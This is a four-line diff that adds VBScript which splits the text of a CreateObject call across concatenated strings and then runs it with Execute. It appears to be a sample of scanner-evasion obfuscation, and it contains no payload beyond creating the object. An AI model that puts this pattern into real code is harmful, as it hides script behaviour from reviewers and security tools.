@@ -1,0 +1,4 @@
+s = "Set o = Cre"
+S = s & "ateObject(""WScr" & _
+ "ipt"")" & vbCrLf
+Execute s
